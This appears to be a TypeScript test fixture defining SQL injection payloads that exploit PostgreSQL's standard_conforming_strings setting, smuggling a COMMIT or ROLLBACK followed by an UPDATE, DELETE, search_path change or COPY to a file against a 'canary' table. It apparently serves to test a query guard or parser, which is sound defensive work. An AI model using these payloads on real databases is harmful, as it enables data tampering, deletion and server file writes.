import type { Payload } from "./payload";

/**
 * Reproduction 1 of issue 6: text that PostgreSQL's parser with `standard_conforming_strings = on` reads as one
 * SELECT of two string literals, but a session with the setting off reads as `… ; COMMIT; <anything>; SELECT …`.
 * `between` is the SQL smuggled between the injected COMMIT (or ROLLBACK) and the closing SELECT.
 */
function smuggle(name: string, ending: "COMMIT" | "ROLLBACK", between: (filePath: string) => string): Payload {
  return {
    name,
    group: "lexical",
    sql: (context) =>
      `SELECT '\\' AS a, ') AS x; ${ending}; ${between(context.filePath)}; SELECT * FROM (SELECT 1 AS a --' AS b`,
  };
}

export const lexicalPayloads: readonly Payload[] = [
  smuggle("backslash quote: commit then update", "COMMIT", () => "UPDATE canary SET v = $$pwned$$ WHERE id = 2"),
  smuggle("backslash quote: rollback then delete", "ROLLBACK", () => "DELETE FROM canary WHERE id <= 3"),
  smuggle(
    "backslash quote: commit then session state",
    "COMMIT",
    () => "SET search_path = evil; SELECT pg_advisory_lock(4250)",
  ),
  smuggle("backslash quote: commit then copy to a file", "COMMIT", (filePath) => `COPY canary TO $$${filePath}$$`),
];
